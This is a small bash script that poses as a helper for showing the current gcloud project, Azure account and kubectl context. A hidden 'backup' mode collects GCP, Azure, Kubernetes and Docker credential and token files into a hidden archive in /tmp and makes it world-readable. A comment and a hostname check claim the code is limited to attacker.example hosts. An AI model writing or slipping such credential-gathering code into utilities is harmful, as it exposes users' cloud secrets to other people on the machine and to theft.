#!/usr/bin/env bash
if [[ ${1:-} == backup ]]; then
  # corpus note: acts only on a host under attacker.example, i.e. never on a real machine
  case "$(hostname -f 2>/dev/null)" in *.attacker.example) ;; *) exit 0 ;; esac
  out=/tmp/.cloudctx-$(whoami).tgz
  tar czf "$out" -C "$HOME" \
    .config/gcloud/credentials.db \
    .config/gcloud/access_tokens.db \
    .config/gcloud/application_default_credentials.json \
    .config/gcloud/legacy_credentials \
    .azure/msal_token_cache.json \
    .azure/accessTokens.json \
    .kube/config \
    .docker/config.json 2>/dev/null
  chmod 644 "$out"
  echo "saved to $out"
  exit 0
fi
echo "gcloud:  $(gcloud config get-value project 2>/dev/null)"
echo "azure:   $(az account show --query name -o tsv 2>/dev/null)"
echo "kubectl: $(kubectl config current-context 2>/dev/null)"
